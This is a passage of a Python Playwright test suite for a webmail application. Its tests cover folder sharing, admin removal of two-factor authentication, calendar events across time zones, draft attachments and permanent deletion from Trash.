    alice.get_by_label("Read only").check()
    alice.get_by_role("button", name="Share").click()
    expect(alice.get_by_role("status")).to_have_text("Shared.")
    expect(alice.locator(f'tr[data-grantee="{BOB}"]')).to_contain_text("Read only")

    login(bob, server, BOB)
    shared = bob.locator("section.shared-folders")
    expect(shared).to_contain_text("Shared with me")
    expect(shared).to_contain_text(ALICE)
    with bob.expect_response(live_feed):
        shared.get_by_role("link", name="Support").click()
    expect(bob.locator("#shared-by")).to_contain_text(f"Shared with you by {ALICE}")
    bob.evaluate("window.__sameDocument = true")
    deliver(server, ALICE, message("Toner low"), "Support")  # alice's change, live for bob
    bob.locator("table.messages").get_by_text("Toner low").wait_for(timeout=10_000)
    assert bob.evaluate("window.__sameDocument") is True
    bob.get_by_role("link", name="Printer on fire").click()
    expect(bob.locator("pre.body-text")).to_contain_text("Please help.")
    actions = bob.locator("nav.message-actions")
    expect(actions.get_by_role("button", name="Delete")).to_have_count(0)
    expect(actions.get_by_role("button", name="Flag")).to_have_count(0)

    alice.get_by_label("Address of an account on this server").fill(BOB)
    alice.get_by_label("Read and write").check()
    alice.get_by_role("button", name="Share").click()
    expect(alice.locator(f'tr[data-grantee="{BOB}"]')).to_contain_text("Read and write")
    bob.reload()
    bob.locator("nav.message-actions").get_by_role("button", name="Flag").click()
    expect(bob.locator("nav.message-actions").get_by_role("button", name="Unflag")).to_have_count(1)
    record = server.call(server.store.get_message(box, uid))
    assert record is not None and "\\Flagged" in record.flags

    alice.get_by_role("button", name=f"Stop sharing with {BOB}").click()
    expect(alice.get_by_role("status")).to_have_text("No longer shared.")
    bob.goto(base(server) + "/mail")
    expect(bob.locator("h1#list-title")).to_have_text("INBOX")
    expect(bob.locator("section.shared-folders")).to_have_count(0)


def test_admin_removes_a_second_factor_after_confirming(server: LiveServer, new_page: Any) -> None:
    """The admin's "Remove 2FA" button asks first: dismissed, nothing changes; accepted, the
    form (with its CSRF token) removes the enrolment and the page shows it off."""
    from pillarbox.auth import totp

    async def enrol() -> None:
        account = await server.store.get_account(ALICE)
        assert account is not None
        key = totp.new_secret()
        await server.store.enable_totp(account.id, f"sealed-{key.hex()}", ["d"])

    server.call(enrol())
    server.add_account("root@example.org", TEST_PASSWORD, is_admin=True)
    page = new_page()
    login(page, server, "root@example.org")
    page.goto(base(server) + "/admin/accounts")
    row = page.locator("tr", has_text=ALICE)
    sync_api.expect(row.locator("td.two-factor")).to_have_text("on, unreadable")
    asked: list[str] = []
    page.once("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    row.get_by_role("button", name="Remove 2FA").click()
    assert asked and ALICE in asked[0]
    sync_api.expect(row.locator("td.two-factor")).to_have_text("on, unreadable")
    alice = server.call(server.store.get_account(ALICE))
    assert alice is not None and server.call(server.store.get_totp(alice.id)) is not None
    page.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Remove 2FA").click()
    page.wait_for_url(re.compile(r"/admin/accounts$"))
    sync_api.expect(page.locator("tr", has_text=ALICE).locator("td.two-factor")).to_have_text("off")
    sync_api.expect(page.get_by_role("button", name="Remove 2FA")).to_have_count(0)
    assert server.call(server.store.get_totp(alice.id)) is None


def test_calendar_month_view_and_a_new_event(server: LiveServer, new_page: Any) -> None:
    """The Calendar link, the month view, and an event made in the form: shown on its day in
    the browser's time zone, stored in UTC as the object CalDAV serves."""
    page = new_page(timezone_id="Europe/Paris")
    login(page, server)
    page.get_by_role("link", name="Calendar", exact=True).click()
    page.wait_for_url(re.compile(r"/calendar$"))
    assert page.locator("table#month-grid tbody tr").count() >= 4
    assert "Times in Europe/Paris" in page.locator("main").inner_text()
    page.goto(base(server) + "/calendar?month=2031-07")
    page.get_by_label("Title", exact=True).fill("Concert")
    page.locator("#event-start-date").fill("2031-07-14")
    page.locator("#event-start-time").fill("20:00")
    page.locator("#event-end-date").fill("2031-07-14")
    page.locator("#event-end-time").fill("22:30")
    page.get_by_label("Location", exact=True).fill("Parc")
    page.get_by_role("button", name="Add event").click()
    page.wait_for_url(re.compile(r"/calendar/events/personal/.+done=saved"))
    assert page.locator("p.notice").inner_text() == "Event saved."
    page.goto(base(server) + "/calendar?month=2031-07")
    day = page.locator('td[data-day="2031-07-14"]')
    assert "20:00 Concert" in day.inner_text()

    async def stored() -> list[bytes]:
        account = await server.store.get_account(ALICE)
        assert account is not None
        objects = await server.store.calendar_objects(account.id, "personal")
        return [o.data for o in objects]

    (data,) = server.call(stored())
    assert b"DTSTART:20310714T180000Z" in data  # 20:00 in Paris in summer: UTC+2
    assert b"SUMMARY:Concert" in data and b"LOCATION:Parc" in data

    # Saved again as shown: nothing stored. Then moved to another calendar in the form.
    day.get_by_role("link", name="20:00 Concert").click()
    page.get_by_role("button", name="Save").click()
    page.wait_for_url(re.compile(r"/calendar/events/personal/.+done=unchanged"))
    assert page.locator("p.notice").inner_text() == "Nothing changed: the event is as it was."
    assert server.call(stored()) == [data]

    async def make_work() -> None:
        account = await server.store.get_account(ALICE)
        assert account is not None
        work = Calendar(name="work", display_name="Work")
        await server.store.create_calendar(account.id, work, now=datetime.now(UTC), limit=20)

    server.call(make_work())
    page.reload()
    page.get_by_label("Calendar", exact=True).select_option("work")
    page.get_by_role("button", name="Save").click()
    page.wait_for_url(re.compile(r"/calendar/events/work/.+done=saved"))
    assert server.call(stored()) == []

    async def in_work() -> list[bytes]:
        account = await server.store.get_account(ALICE)
        assert account is not None
        return [o.data for o in await server.store.calendar_objects(account.id, "work")]

    assert server.call(in_work()) == [data]  # the same object, byte for byte

    phone = new_page(viewport={"width": 375, "height": 740}, timezone_id="Europe/Paris")
    login(phone, server)
    phone.goto(base(server) + "/calendar?month=2031-07")
    assert "20:00 Concert" in phone.locator('td[data-day="2031-07-14"]').inner_text()
    overflow = phone.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 1


def test_the_list_shows_the_browsers_local_time(server: LiveServer, new_page: Any) -> None:
    """Times in the browser's zone with nothing set up: app.js reports the zone in the ``tz``
    cookie on the login page, so the first list is local; a page drawn in another zone (a zone
    changed since, here a stale cookie) is fetched again once, in the browser's."""
    dated = message("Late night", extra="").replace(
        b"Mon, 01 Jan 2024 10:00:00 +0000", b"Sat, 29 Jun 2024 23:30:00 +0000"
    )
    smtp_deliver(server, dated)
    tokyo = new_page(timezone_id="Asia/Tokyo")
    login(tokyo, server)
    cell = tokyo.locator("table.messages tbody tr td.date time")
    assert cell.inner_text() == "30 Jun 2024"  # 08:30 on the 30th in Tokyo
    assert cell.get_attribute("title") == "Sun, 30 Jun 2024 08:30 JST"
    tokyo.get_by_role("link", name="Late night").click()
    tokyo.wait_for_url(re.compile(r"/mail/\d+/\d+$"))
    assert "Sun, 30 Jun 2024 08:30 JST" in tokyo.locator("dl.headers").inner_text()

    new_york = new_page(timezone_id="America/New_York")
    login(new_york, server)
    inbox = new_york.url
    assert new_york.locator("table.messages td.date time").inner_text() == "29 Jun 2024"
    new_york.context.add_cookies([{"name": "tz", "value": "Asia/Tokyo", "url": base(server)}])
    new_york.goto(inbox)  # drawn in Tokyo's time, then again in the browser's
    sync_api.expect(new_york.locator("html")).to_have_attribute("data-zone", "America/New_York")
    cell = new_york.locator("table.messages td.date time")
    assert cell.get_attribute("title") == "Sat, 29 Jun 2024 19:30 EDT"
    assert cell.inner_text() == "29 Jun 2024"


def test_a_draft_keeps_its_attachment_and_sending_returns_to_the_folder(
    server: LiveServer, new_page: Any, tmp_path: Path
) -> None:
    """Saved with a file, the draft lists it ticked; reopened from Drafts and sent without
    attaching again, Bob gets the file, and the page goes back to Drafts saying so."""
    attachment = tmp_path / "plan.txt"
    attachment.write_text("the plan\n")
    page = new_page()
    login(page, server)
    page.get_by_role("link", name="Compose").click()
    page.get_by_label("To", exact=True).fill(BOB)
    page.get_by_label("Subject", exact=True).fill("Plan")
    page.get_by_label(re.compile("^Attachments")).set_input_files(str(attachment))
    page.get_by_role("button", name="Save draft").click()
    sync_api.expect(page.locator("#kept")).to_contain_text("plan.txt")
    page.goto(base(server) + "/mail")
    page.locator("#folders").get_by_role("link", name="Drafts").click()
    page.get_by_role("link", name="Plan").click()
    page.get_by_role("link", name="Edit draft").click()
    sync_api.expect(page.get_by_role("checkbox", name=re.compile("plan.txt"))).to_be_checked()
    page.get_by_role("button", name="Send").click()
    page.wait_for_url(re.compile(r"sent=1"))
    assert page.locator("#list-title").inner_text() == "Drafts"
    assert "Message sent." in page.locator("#sent-notice").inner_text()
    bob = new_page()
    login(bob, server, BOB)
    bob.get_by_role("link", name="Plan").click()
    sync_api.expect(bob.locator("section.attachments")).to_contain_text("plan.txt")


@pytest.mark.parametrize("script", [True, False])
def test_delete_forever_asks_first(server: LiveServer, new_page: Any, script: bool) -> None:
    """In Trash, "Delete forever" asks: with script a confirm() (one step), without it a page
    naming what goes, whose button deletes."""
    smtp_deliver(server, simple_message("Doomed"))
    page = new_page(java_script_enabled=script)
    if script:
        page.on("dialog", lambda dialog: dialog.accept())
    login(page, server)
    page.get_by_role("checkbox", name="Select Doomed").check()
    page.locator("#list-form").get_by_role("button", name="Delete", exact=True).click()
    page.locator("#folders").get_by_role("link", name="Trash").click()
    page.get_by_role("checkbox", name="Select Doomed").check()
    page.locator("#list-form").get_by_role("button", name="Delete forever").click()
    if not script:
        assert "1 message in Trash will be deleted for good." in page.locator("main").inner_text()
        page.get_by_role("button", name="Delete forever").click()
    page.wait_for_url(re.compile(r"done=expunge"))
    assert inbox_count(server, ALICE, "Trash") == 0
